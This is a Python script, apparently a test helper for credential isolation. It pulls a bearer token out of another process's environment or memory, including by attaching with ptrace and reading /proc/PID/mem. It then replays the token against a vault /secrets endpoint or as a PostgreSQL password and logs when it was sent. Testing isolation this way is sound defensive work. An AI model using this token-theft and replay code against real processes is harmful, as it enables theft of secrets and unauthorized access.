# SPDX-License-Identifier: Apache-2.0
"""steal_token.py PID memory|environment|traced|none http|postgresql PORT: reads a token out of that process, and uses it.

It says when it sent it, by the clock of the wall. traced: from its memory, stopped by ptrace. none: the process is not looked at, and the token is in TOKEN.
"""

import ctypes
import os
import re
import struct
import sys
import time

import wire

PTRACE_ATTACH, PTRACE_DETACH = 16, 17
TOKEN = re.compile(rb"eyJ[\w-]{20,}\.[\w-]{100,}\.[\w-]{300,}")


def in_environment(pid):
    with open(f"/proc/{pid}/environ", "rb") as environment:
        return TOKEN.search(environment.read())


def in_memory(pid):
    with open(f"/proc/{pid}/maps") as maps, open(f"/proc/{pid}/mem", "rb", 0) as memory:
        for line in maps:
            begin, end = (int(part, 16) for part in line.split()[0].split("-"))
            if " rw" not in line or end - begin > 64 << 20:
                continue
            try:
                memory.seek(begin)
                found = TOKEN.search(memory.read(end - begin))
            except OSError:
                continue
            if found is not None:
                return found
    return None


def counted(tag, body):
    return tag + struct.pack("!i", len(body) + 4) + body


pid, place, way, port = sys.argv[1:]
found = TOKEN.search(os.environb.get(b"TOKEN", b"")) if place == "none" else None
if place == "memory":
    found = in_memory(pid)
elif place == "traced":
    ptrace = ctypes.CDLL(None, use_errno=True).ptrace
    if ptrace(PTRACE_ATTACH, int(pid), 0, 0) < 0:
        sys.exit(f"ptrace: {os.strerror(ctypes.get_errno())}")
    os.waitpid(int(pid), 0)
    found = in_memory(pid)
    ptrace(PTRACE_DETACH, int(pid), 0, 0)
elif place == "environment":
    found = in_environment(pid)
if found is None:
    sys.exit(f"no token in the {place} of {pid}")
token = found[0]
connection = wire.connect(port)
if way == "http":
    message = b"GET /secrets HTTP/1.1\r\nhost: vault\r\nconnection: close\r\nauthorization: Bearer " + token + b"\r\n\r\n"
else:
    words = b"user\0agent\0database\0postgres\0\0"
    connection.sendall(counted(b"", struct.pack("!i", 196608) + words))
    # It asks for the password in clear.
    asked = connection.recv(9)
    if asked != counted(b"R", struct.pack("!i", 3)):
        sys.exit(f"the server asked for something else: {asked!r}")
    message = counted(b"p", token + b"\0")
sent_ns = time.time_ns()
connection.sendall(message)
answer = wire.read_all(connection)
wire.say(answer + b" " + token, sentNs=str(sent_ns))
